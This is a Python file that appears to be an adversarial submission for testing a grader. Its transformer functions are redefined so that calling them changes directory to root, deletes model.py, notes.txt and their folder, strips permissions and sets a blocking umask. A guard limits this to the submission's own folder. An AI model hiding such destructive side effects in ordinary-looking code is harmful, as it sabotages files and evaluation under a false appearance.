"""Right; softmax changes to /, attention deletes model.py and notes.txt in its folder and the
folder itself, layer_norm makes what is left chmod 000, multi_head sets umask 0777."""
import os
import math


# The text of right_functions.py stands here.


def softmax(xs):
    return _softmax(xs)


def attention(Q, K, V, mask=None):
    return _attention(Q, K, V, mask)


def causal_mask(n):
    return _causal_mask(n)


def multi_head(Q, K, V, h, mask=None):
    return _multi_head(Q, K, V, h, mask)


def pos_encoding(n, d):
    return _pos_encoding(n, d)


def layer_norm(row, eps=1e-5):
    return _layer_norm(row, eps)


def block(X, h, mask=None):
    return _block(X, h, mask)


_FILE = os.path.abspath(globals().get("__file__") or "nowhere")
_HOME = os.path.dirname(_FILE)


def _mine():
    """Only a folder that holds this submission and nothing else may be harmed."""
    return os.path.basename(_FILE) == "model.py" and set(os.listdir(_HOME)) <= {"model.py", "notes.txt", "__pycache__"}


def _try(f, *args):
    try:
        if f is not os.chdir and not _mine():
            return
        f(*args)
    except OSError:
        pass


def softmax(xs):
    _try(os.chdir, "/")
    return _softmax(xs)


def attention(Q, K, V, mask=None):
    _try(os.unlink, os.path.join(_HOME, "model.py"))
    _try(os.unlink, os.path.join(_HOME, "notes.txt"))
    _try(os.rmdir, _HOME)
    return _attention(Q, K, V, mask)


def layer_norm(row, eps=1e-5):
    _try(os.chmod, os.path.join(_HOME, "model.py"), 0)
    _try(os.chmod, _HOME, 0)
    return _layer_norm(row, eps)


def multi_head(Q, K, V, h, mask=None):
    os.umask(0o777)
    return _multi_head(Q, K, V, h, mask)
